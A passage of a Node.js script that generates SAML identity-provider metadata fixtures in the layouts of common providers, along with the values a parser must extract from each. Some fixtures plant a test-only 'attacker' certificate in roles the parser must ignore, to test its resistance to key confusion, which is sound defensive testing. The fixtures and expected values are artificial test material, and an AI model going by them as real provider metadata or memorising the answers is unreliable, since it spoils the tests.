#!/usr/bin/env node
// Regenerates test/fixtures/metadata/: IdP metadata in the shapes real IdPs publish, and hostile or broken
// documents under invalid/. Every entity id and URL is made up; every certificate is one of the test-only
// certificates in test/fixtures/keys/. expected.json says what the parser must extract from each valid
// file (and, for the certificates, what OpenSSL reads from them), and which failure each invalid file gets.
//
//   node scripts/make-metadata-fixtures.mjs
//
// Plain Node, no dependencies. The output is deterministic, so running it again gives no diff.
import { createHash, createPublicKey, X509Certificate } from 'node:crypto'
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { fileURLToPath } from 'node:url'

const root = path.join(path.dirname(fileURLToPath(import.meta.url)), '..')
const keysDir = path.join(root, 'test/fixtures/keys')
const outDir = path.join(root, 'test/fixtures/metadata')
const invalidDir = path.join(outDir, 'invalid')

/** Reads `export const NAME = 512 * 1024` from src/saml/limits.ts, so the size and depth fixtures follow the limits. */
function limit(name) {
  const src = readFileSync(path.join(root, 'src/saml/limits.ts'), 'utf8')
  const m = src.match(new RegExp(`export const ${name} = ([\\d_ *]+)`))
  if (!m) throw new Error(`${name} not found in src/saml/limits.ts`)
  return m[1].split('*').reduce((acc, n) => acc * Number(n.trim().replaceAll('_', '')), 1)
}
const MAX_METADATA_BYTES = limit('MAX_METADATA_BYTES')
const MAX_XML_DEPTH = limit('MAX_XML_DEPTH')

// --- certificates ---------------------------------------------------------------------------------

const CERT_FILES = ['idp', 'idp-rollover', 'expired', 'sp', 'attacker'].map((n) => `${n}.cert.pem`)
const pem = (file) => readFileSync(path.join(keysDir, file), 'utf8')
const b64 = (file) => pem(file).replace(/-----(BEGIN|END) CERTIFICATE-----/g, '').replace(/\s+/g, '')
const IDP = 'idp.cert.pem'
const ROLLOVER = 'idp-rollover.cert.pem'
const EXPIRED = 'expired.cert.pem'
const SP = 'sp.cert.pem'
const ATTACKER = 'attacker.cert.pem'

/** Splits base64 into lines of `width`, as IdPs do (64 for PEM-minded ones, 76 for MIME-minded ones). */
const wrap = (s, width) => s.match(new RegExp(`.{1,${width}}`, 'g'))
/** Made-up but well-formed base64, for DigestValue and SignatureValue (nothing here verifies them). */
const fakeB64 = (seed, bytes) => {
  let out = Buffer.alloc(0)
  for (let i = 0; out.length < bytes; i++) out = Buffer.concat([out, createHash('sha256').update(`${seed}:${i}`).digest()])
  return out.subarray(0, bytes).toString('base64')
}

// --- namespaces and bindings ----------------------------------------------------------------------

const NS_MD = 'urn:oasis:names:tc:SAML:2.0:metadata'
const NS_DS = 'http://www.w3.org/2000/09/xmldsig#'
const NS_SAML = 'urn:oasis:names:tc:SAML:2.0:assertion'
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol'
const B = {
  redirect: 'urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect',
  post: 'urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST',
  simpleSign: 'urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST-SimpleSign',
  soap: 'urn:oasis:names:tc:SAML:2.0:bindings:SOAP',
  artifact: 'urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact',
  shib1: 'urn:mace:shibboleth:1.0:profiles:AuthnRequest',
  soap1: 'urn:oasis:names:tc:SAML:1.0:bindings:SOAP-binding',
}

/** An enveloped XML-DSig block as Entra ID, AD FS and federations put it first in the signed element. */
function signature({ ds = '', refId, cert, indent = '', nl = '' }) {
  const p = ds ? `${ds}:` : ''
  const x = ds ? `xmlns:${ds}="${NS_DS}"` : `xmlns="${NS_DS}"`
  const i = (n) => (nl ? nl + indent + '  '.repeat(n) : '')
  const keyInfo = cert
    ? `${i(1)}<KeyInfo xmlns="${NS_DS}">${i(2)}<X509Data>${i(3)}<X509Certificate>${b64(cert)}</X509Certificate>${i(2)}</X509Data>${i(1)}</KeyInfo>`
    : ''
  return (
    `<${p}Signature ${x}>${i(1)}<${p}SignedInfo>${i(2)}<${p}CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>` +
    `${i(2)}<${p}SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>` +
    `${i(2)}<${p}Reference URI="${refId ? `#${refId}` : ''}">${i(3)}<${p}Transforms>` +
    `${i(4)}<${p}Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>` +
    `${i(4)}<${p}Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>${i(3)}</${p}Transforms>` +
    `${i(3)}<${p}DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>` +
    `${i(3)}<${p}DigestValue>${fakeB64(`digest:${refId}`, 32)}</${p}DigestValue>${i(2)}</${p}Reference>${i(1)}</${p}SignedInfo>` +
    `${i(1)}<${p}SignatureValue>${fakeB64(`sig:${refId}`, 256)}</${p}SignatureValue>${keyInfo}${nl}${indent}</${p}Signature>`
  )
}

/** The WS-Federation claim list Entra ID and AD FS put in their RoleDescriptors. */
const claimTypes = (tag) =>
  `<fed:${tag}>` +
  [
    ['http://schemas.xmlsoap.org/ws/2005/05/identity/claims/name', 'Name', 'The mutable display name of the user.'],
    ['http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress', 'Email', 'Email address of the user &lt;user@example.com&gt;.'],
  ]
    .map(
      ([uri, name, desc]) =>
        `<auth:ClaimType Uri="${uri}" xmlns:auth="http://docs.oasis-open.org/wsfed/authorization/200706"><auth:DisplayName>${name}</auth:DisplayName><auth:Description>${desc}</auth:Description></auth:ClaimType>`,
    )
    .join('') +
  `</fed:${tag}>`

const xsiFed = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:fed="http://docs.oasis-open.org/wsfed/federation/200706"'

// --- valid shapes ---------------------------------------------------------------------------------

/**
 * One entry per shape in /work/shared/reference/idp-metadata/README.md, and a few the real files imply.
 * `expect` is what the parser must return; `certificates` name files in test/fixtures/keys/.
 */
const VALID = [
  {
    file: 'okta-shape.xml',
    shape: 'Okta: md:/ds: prefixes, whole document on one line, certificate starts on the tag line then continues on 4-space-indented 76-column lines; POST listed before Redirect',
    expect: { entityId: 'http://www.okta.example.com/exk0example0000000697', ssoUrl: 'https://example.okta.example.com/app/example_app_1/exk0example0000000697/sso/saml', ssoBinding: 'redirect', certificates: [IDP] },
    render({ entityId, ssoUrl }) {
      const [first, ...rest] = wrap(b64(IDP), 76)
      const cert = [first, ...rest.map((l) => `    ${l}`)].join('\n')
      return `<?xml version="1.0" encoding="UTF-8"?><md:EntityDescriptor entityID="${entityId}" xmlns:md="${NS_MD}"><md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="${PROTOCOL}"><md:KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="${NS_DS}"><ds:X509Data><ds:X509Certificate>${cert}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor><md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified</md:NameIDFormat><md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat><md:SingleSignOnService Binding="${B.post}" Location="${ssoUrl}"/><md:SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}"/></md:IDPSSODescriptor></md:EntityDescriptor>`
    },
  },
  {
    file: 'entra-id-two-signing-keys.xml',
    shape: 'Entra ID: unprefixed, one line, enveloped Signature whose KeyInfo is not a KeyDescriptor, two WS-Fed RoleDescriptors, two signing keys (rollover) in every role',
    expect: { entityId: 'https://sts.windows.example.net/00000000-1111-2222-3333-444444444444/', ssoUrl: 'https://login.example.com/00000000-1111-2222-3333-444444444444/saml2', ssoBinding: 'redirect', certificates: [IDP, ROLLOVER] },
    render({ entityId, ssoUrl }) {
      const id = '_0e5f3b9a-entra-0000-0000-000000000001'
      const keys = [IDP, ROLLOVER].map((c) => `<KeyDescriptor use="signing"><KeyInfo xmlns="${NS_DS}"><X509Data><X509Certificate>${b64(c)}</X509Certificate></X509Data></KeyInfo></KeyDescriptor>`).join('')
      const passive = `<fed:PassiveRequestorEndpoint><EndpointReference xmlns="http://www.w3.org/2005/08/addressing"><Address>${ssoUrl.replace('saml2', 'wsfed')}</Address></EndpointReference></fed:PassiveRequestorEndpoint>`
      return `<?xml version="1.0" encoding="utf-8"?><EntityDescriptor ID="${id}" entityID="${entityId}" xmlns="${NS_MD}">${signature({ refId: id, cert: ATTACKER })}<RoleDescriptor xsi:type="fed:SecurityTokenServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/wsfed/federation/200706" ${xsiFed}>${keys}${claimTypes('ClaimTypesOffered')}${passive}</RoleDescriptor><RoleDescriptor xsi:type="fed:ApplicationServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/wsfed/federation/200706" ${xsiFed}>${keys}${claimTypes('ClaimTypesRequested')}${passive}</RoleDescriptor><IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}">${keys}<SingleLogoutService Binding="${B.redirect}" Location="${ssoUrl}"/><SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}"/><SingleSignOnService Binding="${B.post}" Location="${ssoUrl}"/></IDPSSODescriptor></EntityDescriptor>`
    },
  },
  {
    file: 'entra-id-signed-bom.xml',
    shape: 'Entra ID: UTF-8 byte order mark before the XML declaration, no line terminators, signed, RoleDescriptor, one signing key',
    expect: { entityId: 'https://sts.windows.example.net/55555555-6666-7777-8888-999999999999/', ssoUrl: 'https://login.example.com/55555555-6666-7777-8888-999999999999/saml2', ssoBinding: 'redirect', certificates: [IDP] },
    render({ entityId, ssoUrl }) {
      const id = '_6a7269b2-entra-0000-0000-000000000002'
      const key = `<KeyDescriptor use="signing"><KeyInfo xmlns="${NS_DS}"><X509Data><X509Certificate>${b64(IDP)}</X509Certificate></X509Data></KeyInfo></KeyDescriptor>`
      return `\uFEFF<?xml version="1.0" encoding="utf-8"?><EntityDescriptor ID="${id}" entityID="${entityId}" xmlns="${NS_MD}">${signature({ refId: id, cert: IDP })}<RoleDescriptor xsi:type="fed:SecurityTokenServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/wsfed/federation/200706" ${xsiFed}>${key}${claimTypes('ClaimTypesOffered')}</RoleDescriptor><IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}">${key}<SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}"/><SingleSignOnService Binding="${B.post}" Location="${ssoUrl}"/></IDPSSODescriptor></EntityDescriptor>`
    },
  },
  {
    file: 'adfs-roledescriptors.xml',
    shape: 'AD FS: no XML declaration, tab-indented, ds:Signature, WS-Fed RoleDescriptors with their own keys, an SP role beside the IdP role, encryption and signing keys in both roles; only the IdP role\'s signing key counts',
    expect: { entityId: 'http://adfs.example.com/adfs/services/trust', ssoUrl: 'https://adfs.example.com/adfs/ls/', ssoBinding: 'redirect', certificates: [IDP] },
    render({ entityId, ssoUrl }) {
      const id = '_46a4ff39-adfs-0000-0000-000000000003'
      const key = (use, cert, t) => `${t}<KeyDescriptor use="${use}">\n${t}\t<KeyInfo xmlns="${NS_DS}">\n${t}\t\t<X509Data>\n${t}\t\t\t<X509Certificate>${b64(cert)}</X509Certificate>\n${t}\t\t</X509Data>\n${t}\t</KeyInfo>\n${t}</KeyDescriptor>`
      return [
        `<EntityDescriptor ID="${id}" entityID="${entityId}" xmlns="${NS_MD}">`,
        `\t${signature({ ds: 'ds', refId: id, cert: IDP, indent: '\t', nl: '\n' })}`,
        `\t<RoleDescriptor xsi:type="fed:ApplicationServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/ws-sx/ws-trust/200512 http://docs.oasis-open.org/wsfed/federation/200706" ServiceDisplayName="adfs.example.com" ${xsiFed}>`,
        key('encryption', SP, '\t\t'),
        `\t\t${claimTypes('ClaimTypesRequested')}`,
        `\t\t<fed:TargetScopes><EndpointReference xmlns="http://www.w3.org/2005/08/addressing"><Address>https://adfs.example.com/adfs/services/trust/13/issuedtokenmixedasymmetricbasic256</Address></EndpointReference></fed:TargetScopes>`,
        `\t</RoleDescriptor>`,
        `\t<RoleDescriptor xsi:type="fed:SecurityTokenServiceType" protocolSupportEnumeration="http://docs.oasis-open.org/ws-sx/ws-trust/200512 http://docs.oasis-open.org/wsfed/federation/200706" ServiceDisplayName="adfs.example.com" ${xsiFed}>`,
        key('signing', ATTACKER, '\t\t'),
        `\t\t${claimTypes('ClaimTypesOffered')}`,
        `\t</RoleDescriptor>`,
        `\t<SPSSODescriptor WantAssertionsSigned="true" protocolSupportEnumeration="${PROTOCOL}">`,
        key('encryption', SP, '\t\t'),
        key('signing', SP, '\t\t'),
        `\t\t<SingleLogoutService Binding="${B.redirect}" Location="${ssoUrl}"/>`,
        `\t\t<NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</NameIDFormat>`,
        `\t\t<AssertionConsumerService Binding="${B.post}" Location="${ssoUrl}" index="0" isDefault="true"/>`,
        `\t</SPSSODescriptor>`,
        `\t<IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}">`,
        key('encryption', ROLLOVER, '\t\t'),
        key('signing', IDP, '\t\t'),
        `\t\t<SingleLogoutService Binding="${B.redirect}" Location="${ssoUrl}"/>`,
        `\t\t<SingleLogoutService Binding="${B.post}" Location="${ssoUrl}"/>`,
        `\t\t<NameIDFormat>urn:oasis:names:tc:SAML:2.0:nameid-format:persistent</NameIDFormat>`,
        `\t\t<SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}"/>`,
        `\t\t<SingleSignOnService Binding="${B.post}" Location="${ssoUrl}"/>`,
        `\t\t<Attribute Name="http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri" FriendlyName="UPN" xmlns="${NS_SAML}"/>`,
        `\t</IDPSSODescriptor>`,
        `</EntityDescriptor>`,
      ].join('\n')
    },
  },
  {
    file: 'google-validuntil-split-cert.xml',
    shape: 'Google Workspace: declaration and root on one line, validUntil on the entity, certificate split at 76 columns with no indentation',
    expect: { entityId: 'https://accounts.example.com/o/saml2?idpid=C0example', ssoUrl: 'https://accounts.example.com/o/saml2/idp?idpid=C0example', ssoBinding: 'redirect', certificates: [IDP] },
    render({ entityId, ssoUrl }) {
      const validUntil = new Date(new X509Certificate(pem(IDP)).validTo).toISOString()
      return [
        `<?xml version="1.0" encoding="UTF-8" standalone="no"?><md:EntityDescriptor xmlns:md="${NS_MD}" entityID="${entityId}" validUntil="${validUntil}">`,
        `  <md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="${PROTOCOL}">`,
        `    <md:KeyDescriptor use="signing">`,
        `      <ds:KeyInfo xmlns:ds="${NS_DS}">`,
        `        <ds:X509Data>`,
        `          <ds:X509Certificate>${wrap(b64(IDP), 76).join('\n')}</ds:X509Certificate>`,
        `        </ds:X509Data>`,
        `      </ds:KeyInfo>`,
        `    </md:KeyDescriptor>`,
        `    <md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat>`,
        `    <md:SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}"/>`,
        `    <md:SingleSignOnService Binding="${B.post}" Location="${ssoUrl}"/>`,
        `  </md:IDPSSODescriptor>`,
        `</md:EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'keycloak-no-declaration.xml',
    shape: 'Keycloak: no XML declaration, md: prefix and the same namespace as default, ds:KeyName beside X509Data, POST listed before Redirect, SOAP and Artifact SSO bindings',
    expect: { entityId: 'https://keycloak.example.com/realms/example', ssoUrl: 'https://keycloak.example.com/realms/example/protocol/saml', ssoBinding: 'redirect', certificates: [IDP] },
    render({ entityId, ssoUrl }) {
      return [
        `<md:EntityDescriptor xmlns="${NS_MD}" xmlns:md="${NS_MD}" xmlns:saml="${NS_SAML}" xmlns:ds="${NS_DS}" entityID="${entityId}">`,
        `    <md:IDPSSODescriptor WantAuthnRequestsSigned="true" protocolSupportEnumeration="${PROTOCOL}">`,
        `        <md:KeyDescriptor use="signing">`,
        `            <ds:KeyInfo>`,
        `                <ds:KeyName>kid-${createHash('sha256').update(b64(IDP)).digest('base64url').slice(0, 32)}</ds:KeyName>`,
        `                <ds:X509Data>`,
        `                    <ds:X509Certificate>${b64(IDP)}</ds:X509Certificate>`,
        `                </ds:X509Data>`,
        `            </ds:KeyInfo>`,
        `        </md:KeyDescriptor>`,
        `        <md:ArtifactResolutionService Binding="${B.soap}" Location="${ssoUrl}/resolve" index="0"/>`,
        `        <md:SingleLogoutService Binding="${B.post}" Location="${ssoUrl}"/>`,
        `        <md:SingleLogoutService Binding="${B.redirect}" Location="${ssoUrl}"/>`,
        `        <md:NameIDFormat>urn:oasis:names:tc:SAML:2.0:nameid-format:persistent</md:NameIDFormat>`,
        `        <md:NameIDFormat>urn:oasis:names:tc:SAML:2.0:nameid-format:transient</md:NameIDFormat>`,
        `        <md:SingleSignOnService Binding="${B.post}" Location="${ssoUrl}"/>`,
        `        <md:SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}"/>`,
        `        <md:SingleSignOnService Binding="${B.soap}" Location="${ssoUrl}"/>`,
        `        <md:SingleSignOnService Binding="${B.artifact}" Location="${ssoUrl}"/>`,
        `    </md:IDPSSODescriptor>`,
        `</md:EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'shibboleth-scope-comments.xml',
    shape: 'Shibboleth IdP v3: comments (a commented-out mdui block and a commented-out SingleSignOnService), shibmd:Scope, two signing keys and one encryption key with certificates padded by newlines and indentation, SAML1/POST/POST-SimpleSign before Redirect, an AttributeAuthorityDescriptor with its own key',
    expect: { entityId: 'https://idp.example.org/idp/shibboleth', ssoUrl: 'https://idp.example.org/idp/profile/SAML2/Redirect/SSO', ssoBinding: 'redirect', certificates: [IDP, ROLLOVER] },
    render({ entityId, ssoUrl }) {
      const base = 'https://idp.example.org/idp/profile'
      const key = (use, cert) => [
        `        <KeyDescriptor use="${use}">`,
        `            <ds:KeyInfo>`,
        `                    <ds:X509Data>`,
        `                        <ds:X509Certificate>`,
        ...wrap(b64(cert), 64),
        `                        </ds:X509Certificate>`,
        `                    </ds:X509Data>`,
        `            </ds:KeyInfo>`,
        ``,
        `        </KeyDescriptor>`,
      ]
      return [
        `<?xml version="1.0" encoding="UTF-8"?>`,
        `<!--`,
        `     This is example metadata only. Do *NOT* supply it as is without review.`,
        `-->`,
        `<EntityDescriptor  xmlns="${NS_MD}" xmlns:ds="${NS_DS}" xmlns:shibmd="urn:mace:shibboleth:metadata:1.0" xmlns:xml="http://www.w3.org/XML/1998/namespace" xmlns:mdui="urn:oasis:names:tc:SAML:metadata:ui" entityID="${entityId}">`,
        ``,
        `    <IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL} urn:oasis:names:tc:SAML:1.1:protocol urn:mace:shibboleth:1.0">`,
        ``,
        `        <Extensions>`,
        `            <shibmd:Scope regexp="false">example.org</shibmd:Scope>`,
        `<!--`,
        `    Fill in the details for your IdP here`,
        ``,
        `            <mdui:UIInfo>`,
        `                <mdui:DisplayName xml:lang="en">A Name for the IdP at idp.example.org</mdui:DisplayName>`,
        `            </mdui:UIInfo>`,
        `-->`,
        `        </Extensions>`,
        ``,
        ...key('signing', IDP),
        ...key('signing', ROLLOVER),
        ...key('encryption', SP),
        ``,
        `        <ArtifactResolutionService Binding="${B.soap1}" Location="https://idp.example.org:8443/idp/profile/SAML1/SOAP/ArtifactResolution" index="1"/>`,
        `        <ArtifactResolutionService Binding="${B.soap}" Location="https://idp.example.org:8443/idp/profile/SAML2/SOAP/ArtifactResolution" index="2"/>`,
        ``,
        `        <!--`,
        `        <SingleLogoutService Binding="${B.redirect}" Location="${base}/SAML2/Redirect/SLO"/>`,
        `        <SingleSignOnService Binding="${B.redirect}" Location="https://old-idp.example.org/idp/profile/SAML2/Redirect/SSO"/>`,
        `        -->`,
        ``,
        `        <SingleSignOnService Binding="${B.shib1}" Location="${base}/Shibboleth/SSO"/>`,
        `        <SingleSignOnService Binding="${B.post}" Location="${base}/SAML2/POST/SSO"/>`,
        `        <SingleSignOnService Binding="${B.simpleSign}" Location="${base}/SAML2/POST-SimpleSign/SSO"/>`,
        `        <SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}"/>`,
        ``,
        `    </IDPSSODescriptor>`,
        ``,
        ``,
        `    <AttributeAuthorityDescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:1.1:protocol">`,
        ``,
        `        <Extensions>`,
        `            <shibmd:Scope regexp="false">example.org</shibmd:Scope>`,
        `        </Extensions>`,
        ``,
        ...key('signing', ATTACKER),
        ``,
        `        <AttributeService Binding="${B.soap1}" Location="https://idp.example.org:8443/idp/profile/SAML1/SOAP/AttributeQuery"/>`,
        `        <!-- <AttributeService Binding="${B.soap}" Location="https://idp.example.org:8443/idp/profile/SAML2/SOAP/AttributeQuery"/> -->`,
        ``,
        `    </AttributeAuthorityDescriptor>`,
        ``,
        `</EntityDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'entities-idp-and-sp.xml',
    shape: 'TestShib: EntitiesDescriptor holding an IdP and an SP, KeyDescriptors without use (so signing) followed by EncryptionMethod, a commented-out old key, the same key repeated in the AttributeAuthorityDescriptor, attributes split across lines',
    expect: { entityId: 'https://idp.testshib.example.org/idp/shibboleth', ssoUrl: 'https://idp.testshib.example.org/idp/profile/SAML2/Redirect/SSO', ssoBinding: 'redirect', certificates: [IDP] },
    render({ entityId, ssoUrl }) {
      const base = 'https://idp.testshib.example.org/idp/profile'
      const key = (cert, t) => [
        `${t}<KeyDescriptor>`,
        `${t}    <ds:KeyInfo>`,
        `${t}        <ds:X509Data>`,
        `${t}            <ds:X509Certificate>`,
        ...wrap(b64(cert), 64).map((l) => `${t}                ${l}`),
        `${t}            </ds:X509Certificate>`,
        `${t}        </ds:X509Data>`,
        `${t}    </ds:KeyInfo>`,
        `${t}    <EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>`,
        `${t}    <EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"/>`,
        `${t}</KeyDescriptor>`,
      ]
      return [
        `<EntitiesDescriptor Name="urn:mace:example:testshib:two"`,
        `                     xmlns="${NS_MD}" xmlns:ds="${NS_DS}"`,
        `                     xmlns:mdalg="urn:oasis:names:tc:SAML:metadata:algsupport" xmlns:mdui="urn:oasis:names:tc:SAML:metadata:ui"`,
        `                     xmlns:shibmd="urn:mace:shibboleth:metadata:1.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">`,
        ``,
        `    <!-- This file contains the metadata for a testing IdP and SP. -->`,
        ``,
        `    <EntityDescriptor entityID="${entityId}">`,
        `        <Extensions>`,
        `            <mdalg:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256" />`,
        `            <mdalg:SigningMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256" />`,
        `        </Extensions>`,
        ``,
        `        <IDPSSODescriptor`,
        `                protocolSupportEnumeration="urn:oasis:names:tc:SAML:1.1:protocol urn:mace:shibboleth:1.0 ${PROTOCOL}">`,
        `            <Extensions>`,
        `                <shibmd:Scope regexp="false">testshib.example.org</shibmd:Scope>`,
        `                <mdui:UIInfo>`,
        `                    <mdui:DisplayName xml:lang="en">Example Test IdP</mdui:DisplayName>`,
        `                    <mdui:Logo height="88" width="253"`,
        `                    >https://www.testshib.example.org/logo.jpg</mdui:Logo>`,
        `                </mdui:UIInfo>`,
        `            </Extensions>`,
        `            <!-- old signing key`,
        ...key(ATTACKER, '            '),
        `            -->`,
        ``,
        `            <!-- new signing key -->`,
        ...key(IDP, '            '),
        ``,
        `            <ArtifactResolutionService Binding="${B.soap}"`,
        `                                       Location="https://idp.testshib.example.org:8443/idp/profile/SAML2/SOAP/ArtifactResolution"`,
        `                                       index="2"/>`,
        ``,
        `            <NameIDFormat>urn:oasis:names:tc:SAML:2.0:nameid-format:transient</NameIDFormat>`,
        ``,
        `            <SingleSignOnService Binding="${B.shib1}"`,
        `                                 Location="${base}/Shibboleth/SSO"/>`,
        `            <SingleSignOnService Binding="${B.post}"`,
        `                                 Location="${base}/SAML2/POST/SSO"/>`,
        `            <SingleSignOnService Binding="${B.redirect}"`,
        `                                 Location="${ssoUrl}"/>`,
        `            <SingleSignOnService Binding="${B.soap}"`,
        `                                 Location="${base}/SAML2/SOAP/ECP"/>`,
        `        </IDPSSODescriptor>`,
        ``,
        `        <AttributeAuthorityDescriptor`,
        `                protocolSupportEnumeration="urn:oasis:names:tc:SAML:1.1:protocol ${PROTOCOL}">`,
        ...key(IDP, '            '),
        `            <AttributeService Binding="${B.soap}"`,
        `                              Location="https://idp.testshib.example.org:8443/idp/profile/SAML2/SOAP/AttributeQuery"/>`,
        `        </AttributeAuthorityDescriptor>`,
        `    </EntityDescriptor>`,
        ``,
        `    <EntityDescriptor entityID="https://sp.testshib.example.org/shibboleth-sp">`,
        `        <SPSSODescriptor protocolSupportEnumeration="${PROTOCOL} urn:oasis:names:tc:SAML:1.1:protocol">`,
        ...key(SP, '            '),
        `            <AssertionConsumerService Binding="${B.post}"`,
        `                                      Location="https://sp.testshib.example.org/Shibboleth.sso/SAML2/POST" index="1"/>`,
        `        </SPSSODescriptor>`,
        `    </EntityDescriptor>`,
        `</EntitiesDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'federation-aggregate.xml',
    shape: 'Federation aggregate: signed EntitiesDescriptor whose validUntil is long past, an SP first, then several IdPs mixing md: and default prefixes; the first IdP is Redirect-only and signs with an expired certificate',
    expect: { entityId: 'https://idp1.federation.example.org:9445/idp/saml', ssoUrl: 'https://idp1.federation.example.org:9445/idp/saml/sso/HTTP-Redirect', ssoBinding: 'redirect', certificates: [EXPIRED] },
    render({ entityId, ssoUrl }) {
      const mdKey = (cert) => `\t\t<md:KeyDescriptor use="signing">\n\t\t\t<ds:KeyInfo>\n\t\t\t\t<ds:X509Data>\n\t\t\t\t\t<ds:X509Certificate>${b64(cert)}</ds:X509Certificate>\n\t\t\t\t</ds:X509Data>\n\t\t\t</ds:KeyInfo>\n\t\t</md:KeyDescriptor>`
      const mdNs = `xmlns:md="${NS_MD}" xmlns:ds="${NS_DS}"`
      return [
        `<?xml version="1.0"?>`,
        `<EntitiesDescriptor xmlns="${NS_MD}" validUntil="2014-11-06T10:45:03Z" cacheDuration="PT15M" ID="federation_root">${signature({ ds: 'ds', refId: '', nl: '\n' })}`,
        `  <md:EntityDescriptor ${mdNs} entityID="https://sp1.federation.example.org/sp">`,
        `\t<md:SPSSODescriptor AuthnRequestsSigned="false" WantAssertionsSigned="true" protocolSupportEnumeration="${PROTOCOL}">`,
        mdKey(SP),
        `\t\t<md:AssertionConsumerService Binding="${B.post}" Location="https://sp1.federation.example.org/sp/acs" index="0"/>`,
        `\t</md:SPSSODescriptor>`,
        `  </md:EntityDescriptor>`,
        `  <md:EntityDescriptor ${mdNs} entityID="${entityId}">`,
        `\t<md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="${PROTOCOL}">`,
        mdKey(EXPIRED),
        `\t\t<md:ArtifactResolutionService Binding="${B.soap}" Location="https://idp1.federation.example.org:9445/idp/saml/artifact/SOAP" index="1" isDefault="false"/>`,
        `\t\t<md:SingleLogoutService Binding="${B.post}" Location="https://idp1.federation.example.org:9445/idp/saml/slo/HTTP-POST"/>`,
        `\t\t<md:NameIDFormat>urn:oasis:names:tc:SAML:2.0:nameid-format:transient</md:NameIDFormat>`,
        `\t\t<md:SingleSignOnService Binding="${B.redirect}" Location="${ssoUrl}"/>`,
        `\t</md:IDPSSODescriptor>`,
        `\t<md:Organization><md:OrganizationName xml:lang="en">Example One</md:OrganizationName><md:OrganizationDisplayName xml:lang="en">Example One</md:OrganizationDisplayName><md:OrganizationURL xml:lang="en">https://federation.example.org</md:OrganizationURL></md:Organization>`,
        `  </md:EntityDescriptor>`,
        `  <md:EntityDescriptor ${mdNs} entityID="https://idp2.federation.example.org/idp">`,
        `\t<md:IDPSSODescriptor protocolSupportEnumeration="${PROTOCOL}" WantAuthnRequestsSigned="false">`,
        mdKey(ATTACKER),
        `\t\t<md:SingleSignOnService Binding="${B.redirect}" Location="https://idp2.federation.example.org/wa/auth/saml/"/>`,
        `\t\t<md:SingleSignOnService Binding="${B.post}" Location="https://idp2.federation.example.org/wa/auth/saml/"/>`,
        `\t</md:IDPSSODescriptor>`,
        `  </md:EntityDescriptor>`,
        `  <EntityDescriptor entityID="idp3.federation.example.org">`,
        `    <IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="${PROTOCOL}">`,
        `      <KeyDescriptor use="signing"><ds:KeyInfo xmlns:ds="${NS_DS}"><ds:X509Data><ds:X509Certificate>${b64(ROLLOVER)}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></KeyDescriptor>`,
        `      <SingleSignOnService Binding="${B.post}" Location="https://idp3.federation.example.org/affwebservices/public/saml2sso"/>`,
        `      <SingleSignOnService Binding="${B.redirect}" Location="https://idp3.federation.example.org/affwebservices/public/saml2sso"/>`,
        `    </IDPSSODescriptor>`,
        `  </EntityDescriptor>`,
        `</EntitiesDescriptor>`,
        ``,
      ].join('\n')
    },
  },
  {
    file: 'onelogin-default-ns.xml',
    shape: 'OneLogin: bare XML declaration, unprefixed default namespace, ds: declared on IDPSSODescriptor and again on KeyInfo, Redirect/POST/SOAP, ContactPerson; the certificate has expired',
    expect: { entityId: 'https://app.onelogin.example.com/saml/metadata/000001', ssoUrl: 'https://example.onelogin.example.com/trust/saml2/http-post/sso/000001', ssoBinding: 'redirect', certificates: [EXPIRED] },
